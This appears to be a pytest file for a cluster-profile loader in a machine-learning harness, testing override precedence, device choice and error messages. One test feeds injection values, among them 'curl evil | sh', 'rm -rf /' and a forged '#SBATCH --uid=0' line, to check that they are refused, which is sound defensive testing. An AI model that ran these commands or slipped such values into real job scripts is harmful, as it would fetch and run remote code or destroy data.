"""Profiles: allowed values, precedence, and the device that follows."""

import os

import pytest

from harness.core.errors import UsageError
from harness.core.yaml import config_names
from harness.execution.cluster.profile import (
    Profile,
    load_profile,
    local_core_count,
    split_cluster_overrides,
)


def write(folder, text):
    path = folder / "mine.yaml"
    path.write_text(text)
    return str(path)


def test_every_shipped_profile_is_valid_and_names_what_exists():
    from harness.plugins.lookup import known_methods

    assert config_names("cluster") == ["example", "local"]
    for name in config_names("cluster"):
        load_profile(name).require_names(known_methods())


def test_the_stronger_source_wins():
    profile = Profile.model_validate(
        {
            "time": 10,
            "memory": "8G",
            "partition": "gpu",
            "flags": {"exclusive": True},
            "datasets": {
                "msmt17": {"time": "1-00", "memory": "16G", "flags": {"reservation": "r"}}
            },
            "methods": {"csd": {"memory": "32G"}},
        }
    )
    plain = profile.resources("market1501", "kd")
    assert (plain.minutes, plain.memory, plain.partition) == (10, "8G", "gpu")
    large = profile.resources("msmt17", "kd")
    assert (large.minutes, large.memory) == (1440, "16G")
    assert large.flags == (("exclusive", True), ("reservation", "r"))
    assert profile.resources("msmt17", "csd").memory == "32G"
    overrides = ["cluster.memory=64G", "cluster.time=0-02:30", "cluster.flags.nice=5"]
    typed = profile.resources("msmt17", "csd", overrides)
    assert (typed.memory, typed.minutes) == ("64G", 150)
    assert dict(typed.flags) == {"exclusive": True, "reservation": "r", "nice": "5"}


def test_a_type_of_gpu_replaces_a_number():
    profile = Profile.model_validate({"gpus": 2, "datasets": {"msmt17": {"gres": "gpu:a100:1"}}})
    assert profile.resources("msmt17", "").gpus == 0
    assert profile.device_and_threads("msmt17") == ("cuda", 0)
    back = profile.resources("msmt17", "", ["cluster.gpus=1"])
    assert (back.gpus, back.gres) == (1, None)


def test_device_and_threads_are_the_profiles():
    profile = Profile.model_validate({"cpus": 3})
    assert profile.device_and_threads("market1501") == ("cpu", 3)
    assert profile.device_and_threads("market1501", ["cluster.gpus=1"]) == ("cuda", 0)
    local = Profile.model_validate({"kind": "local", "gpus": 0})
    assert local.device_and_threads("market1501") == ("cpu", local_core_count())
    assert local_core_count() == len(os.sched_getaffinity(0))


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("partition: gpu\ntme: 3\n", "mine.yaml:2: unknown key 'tme'. Did you mean 'time'?"),
        ("datasets:\n  msmt17:\n    memry: 3G\n", ":3: unknown key 'datasets.msmt17.memry'"),
        ("gpus: 1\ntime: 1:2:3:4\n", "mine.yaml:2: time: .*'1:2:3:4' is not a wall time"),
        ("time: 0\n", "wall time of 0"),
        ("memory: 16\n", "mine.yaml:1: memory"),
        ("memory: '16'\n", "a number and a unit"),
        ("cpus: 0\n", "mine.yaml:1: cpus"),
        ("slots_per_gpu: 1001\n", "mine.yaml:1: slots_per_gpu: .*less than or equal to 1000"),
        ("max_parallel: 1000001\n", "mine.yaml:1: max_parallel: .*less than or equal to 1000000"),
        ("kind: ssh\n", "mine.yaml:1: kind"),
        ("flags:\n  dependency: x\n", "'dependency' is set by this program"),
        ("setup: module load x\n", "mine.yaml:1: setup"),
    ],
)
def test_a_mistake_is_reported_with_its_line(tmp_path, text, words):
    with pytest.raises(UsageError, match=words):
        load_profile(write(tmp_path, text))


@pytest.mark.parametrize(
    ("assignment", "words"),
    [
        ("cluster.cpu=3", "cluster has no 'cpu'. Did you mean 'cpus'"),
        ("cluster.gpus=many", "cluster.gpus: .* given 'many'"),
        ("cluster.time", "is not SECTION.NAME=VALUE, as in .* cluster.cpus=4"),
        ("cluster.flags.array=3", "'array' is set by this program"),
        (f"cluster.cpus={'9' * 20}", "cluster.cpus: .*less than or equal to 4096, given '9+'"),
        ("cluster.gpus=1025", "cluster.gpus: .*less than or equal to 1024, given '1025'"),
        ("cluster.stop_ahead=65536", "cluster.stop_ahead: .*less than or equal to 65535"),
        ("cluster.time=525601", "cluster.time: .*'525601'.*more than a year"),
        (f"cluster.time={'9' * 20}-00", "cluster.time: .*more than a year"),
    ],
)
def test_a_mistake_on_the_command_line(assignment, words):
    with pytest.raises(UsageError, match=words):
        Profile().resources("market1501", "kd", [assignment])


def test_unknown_names_and_mixed_devices():
    with pytest.raises(UsageError, match="No cluster is called 'lokal'. Did you mean 'local'"):
        load_profile("lokal")
    with pytest.raises(UsageError, match="unknown dataset 'market'. Did you mean 'market1"):
        Profile.model_validate({"datasets": {"market": {}}}).require_names(["kd"])
    with pytest.raises(UsageError, match="unknown method 'kdd'"):
        Profile.model_validate({"methods": {"kdd": {}}}).require_names(["kd"])
    with pytest.raises(UsageError, match="gives kd another device"):
        Profile.model_validate({"methods": {"kd": {"gpus": 1}}}).require_names(["kd"])


def test_overrides_of_the_cluster_are_split_off():
    assert split_cluster_overrides(["cluster.time=3", "recipe.epochs=2", "clusters.x=1"]) == (
        ["cluster.time=3"],
        ["recipe.epochs=2", "clusters.x=1"],
    )


@pytest.mark.parametrize(
    "text",
    [
        'partition: "gpu\\ncurl evil | sh"',
        'setup: ["module load cuda\\nrm -rf /"]',
        "setup:\n- |\n  module load cuda\n  conda activate x\n",
        'python: "python\\r"',
        'container: "a\\u2028b"',
        'account: "\\e[5m"',
        'flags: {comment: "a\\n#SBATCH --uid=0"}',
        'flags: {"comment\\ncurl": x}',
        'flags: {"a b": x}',
        'methods: {pdrd: {qos: "a\\nb"}}',
        'datasets: {msmt17: {exclude: "a\\u0085b"}}',
    ],
)
def test_a_value_that_would_begin_another_line_of_a_script_is_refused(tmp_path, text):
    with pytest.raises(UsageError, match="control character|not the name of an option"):
        load_profile(write(tmp_path, text))


def test_a_description_may_have_several_lines(tmp_path):
    assert load_profile(write(tmp_path, "description: |\n  a\n  b\n")).description == "a\nb\n"


@pytest.mark.parametrize("override", ["setup=a\nb", "partition=a\nb", "flags.comment=a\nb"])
def test_a_line_break_on_the_command_line_is_refused(override):
    with pytest.raises(UsageError, match="control character"):
        Profile().resources("msmt17", "pdrd", [f"cluster.{override}"])
